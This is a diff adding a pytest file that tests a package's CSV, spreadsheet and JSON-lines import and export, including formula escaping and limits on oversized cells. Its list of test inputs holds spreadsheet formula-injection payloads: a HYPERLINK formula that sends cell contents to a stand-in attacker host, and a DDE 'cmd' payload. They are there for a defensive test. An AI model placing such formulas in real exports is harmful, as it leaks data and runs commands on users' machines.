@@ -1,0 +1,231 @@
+"""Files of items that are read with bounded memory, and exports that other programs open."""
+
+from __future__ import annotations
+
+import csv
+import json
+import tracemalloc
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from teeter.campaigns import import_export
+from teeter.campaigns.import_export import (
+    FORMATS,
+    ExportRow,
+    detect_kind,
+    format_suffix,
+    read_items,
+    write_export,
+)
+from teeter.datasets import table_files
+from teeter.errors import FileError, InputError, UnknownNameError
+
+
+def make_row(content: str = "a text", label: str | None = "good", **fields: object) -> ExportRow:
+    values: dict[str, object] = {
+        "id": "1",
+        "content": content,
+        "label": label,
+        "annotators": 1,
+        "predicted": "good",
+        "confidence": 0.5,
+        "left_out": False,
+    }
+    return ExportRow(**{**values, **fields})  # type: ignore[arg-type]
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(newline="", encoding="utf-8") as file:
+        return list(csv.DictReader(file))
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example?"&A1,"click")',
+    "+1+cmd|' /C calc'!A1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_spreadsheet_export_escapes_every_cell_that_would_run_as_a_formula(
+    text: str, tmp_path: Path
+) -> None:
+    row = make_row(text, text, id=text, predicted=text, decided_by=text)
+
+    write_export([row], tmp_path / "out.csv", "spreadsheet")
+
+    (cells,) = read_csv(tmp_path / "out.csv")
+    for column in ("id", "content", "label", "predicted", "decided_by"):
+        assert cells[column] == f"'{text}"
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_csv_export_is_exact(text: str, tmp_path: Path) -> None:
+    write_export([make_row(text, text)], tmp_path / "out.csv")
+
+    (cells,) = read_csv(tmp_path / "out.csv")
+    assert cells["content"] == cells["label"] == text
+
+
+def test_a_spreadsheet_export_of_harmless_cells_is_the_csv_export(tmp_path: Path) -> None:
+    rows = [
+        make_row("a, b = c", "good", answers={"ann": "good"}),
+        make_row("1 - 1\n=2", None, confidence=None, left_out=True),
+    ]
+
+    write_export(rows, tmp_path / "exact.csv")
+    write_export(rows, tmp_path / "safe.csv", "spreadsheet")
+
+    assert (tmp_path / "safe.csv").read_bytes() == (tmp_path / "exact.csv").read_bytes()
+
+
+def test_every_format_can_be_written_under_its_suffix(tmp_path: Path) -> None:
+    for form in FORMATS:
+        path = tmp_path / f"{form}{format_suffix(form)}"
+        write_export([make_row()], path, form)
+        assert path.exists()
+
+
+def test_an_unknown_format_is_refused_with_the_known_ones(tmp_path: Path) -> None:
+    with pytest.raises(InputError, match=r"has no known format: .* csv, spreadsheet, jsonl"):
+        write_export([make_row()], tmp_path / "out.docx")
+    with pytest.raises(InputError, match="has no known format"):
+        write_export([make_row()], tmp_path / "out.csv", "excel")
+
+
+def test_the_kind_follows_from_the_path(tmp_path: Path) -> None:
+    assert detect_kind(tmp_path) == "image"
+    assert detect_kind(Path("a.npz")) == "features"
+    assert detect_kind(Path("a.csv")) == "text"
+
+
+def test_an_unknown_field_of_json_lines_is_refused_with_a_hint(tmp_path: Path) -> None:
+    path = tmp_path / "a.jsonl"
+    path.write_text('{"text": "one", "labels": "x"}\n')
+
+    with pytest.raises(UnknownNameError, match=r"has a field 'label'. Did you mean 'labels'"):
+        read_items(path, label="label")
+
+
+def test_line_separators_inside_json_texts_do_not_end_a_line(tmp_path: Path) -> None:
+    path = tmp_path / "a.jsonl"
+    path.write_text('{"text": "one\u2028two"}\r\n\n{"text": "three"}', encoding="utf-8")
+
+    assert [item.content for item in read_items(path)] == ["one\u2028two", "three"]
+
+
+@pytest.fixture
+def small_limits(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Allow 1,000 characters in a cell and 5,000 in a line."""
+    for module in (table_files, import_export):
+        monkeypatch.setattr(module, "MAX_CELL_LENGTH", 1_000)
+        monkeypatch.setattr(module, "MAX_LINE_LENGTH", 5_000)
+
+
+LONG = "x" * 1_001
+WITH_COMMAS = "a, b. " * 300
+WITH_LINES = "a line\n" * 300
+
+
+@pytest.mark.usefixtures("small_limits")
+@pytest.mark.parametrize(
+    ("rows", "place"),
+    [
+        ([["1", "one", "a"], ["2", LONG, "b"]], "line 3, column 'text'"),
+        ([["1", "one", "a"], ["2", WITH_COMMAS, "b"]], "line 3, column 'text'"),
+        ([["1", "one\nmore", "a"], ["2", WITH_LINES, "b"]], "line 4, column 'text'"),
+        ([["1", "one", LONG]], "line 2, column 'label'"),
+        ([["1", 'say "so"', WITH_COMMAS]], "line 2, column 'label'"),
+        ([["1", LONG * 9, "a"]], "line 2, column 'text'"),
+        ([["1", WITH_COMMAS * 9, "a"]], "line 2, column 'text'"),
+    ],
+)
+def test_a_long_cell_is_refused_with_its_line_and_column(
+    rows: list[list[str]], place: str, tmp_path: Path
+) -> None:
+    path = tmp_path / "items.csv"
+    with path.open("w", newline="") as file:
+        csv.writer(file, lineterminator="\n").writerows([["id", "text", "label"], *rows])
+
+    with pytest.raises(
+        FileError, match=rf"The cell in {place} of \S+ has more than 1,000 characters"
+    ):
+        read_items(path)
+
+
+@pytest.mark.usefixtures("small_limits")
+def test_a_cell_at_the_limit_is_read(tmp_path: Path) -> None:
+    (tmp_path / "items.csv").write_text(f"text\n{LONG[1:]}\n")
+    (tmp_path / "items.jsonl").write_text(json.dumps({"text": LONG[1:]}) + "\n")
+
+    for name in ("items.csv", "items.jsonl"):
+        (item,) = read_items(tmp_path / name)
+        assert item.content == LONG[1:]
+
+
+@pytest.mark.usefixtures("small_limits")
+def test_a_line_of_many_short_cells_that_is_too_long_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "items.csv"
+    path.write_text("text,other\n" + ",".join(["short"] * 2000) + "\n")
+
+    with pytest.raises(FileError, match=r"Line 2 of \S+ has more than 5,000 characters"):
+        read_items(path)
+
+
+@pytest.mark.usefixtures("small_limits")
+def test_a_quote_that_is_never_closed_is_refused_with_its_line(tmp_path: Path) -> None:
+    path = tmp_path / "items.csv"
+    path.write_text('text,label\none,a\n"two,b\n' + "more,a\n" * 400)
+
+    with pytest.raises(FileError, match=r"The cell in line 3, column 'text' .* a quote is missing"):
+        read_items(path)
+
+
+@pytest.mark.usefixtures("small_limits")
+@pytest.mark.parametrize(
+    ("fields", "message"),
+    [
+        ({"id": 2, "text": LONG}, "The field 'text' in line 2 of .* more than 1,000 characters"),
+        ({"text": "two", "note": LONG}, "The field 'note' in line 2"),
+        ({"id": 2, "text": LONG * 9}, "The field 'text' in line 2"),
+        ({"id": 2, "text": WITH_LINES * 9}, "The field 'text' in line 2"),
+        ({"text": "two", "tags": ["short"] * 2000}, "Line 2 of .* has more than 5,000 characters"),
+    ],
+)
+def test_a_long_field_is_refused_with_its_line_and_name(
+    fields: dict[str, object], message: str, tmp_path: Path
+) -> None:
+    path = tmp_path / "items.jsonl"
+    path.write_text(json.dumps({"text": "one"}) + "\n" + json.dumps(fields) + "\n")
+
+    with pytest.raises(FileError, match=message):
+        read_items(path)
+
+
+@pytest.mark.usefixtures("small_limits")
+@pytest.mark.parametrize(
+    ("name", "write_start"),
+    [("items.csv", lambda: 'text,label\n"'), ("items.jsonl", lambda: '{"text": "')],
+)
+def test_the_rest_of_a_long_field_is_never_read(
+    name: str, write_start: Callable[[], str], tmp_path: Path
+) -> None:
+    path = tmp_path / name
+    path.write_text(write_start() + "a, b. " * 1_000_000)
+
+    tracemalloc.start()
+    try:
+        with pytest.raises(FileError, match="has more than 1,000 characters"):
+            read_items(path)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+
+    assert peak < 1_000_000, "the file has 6 MB"
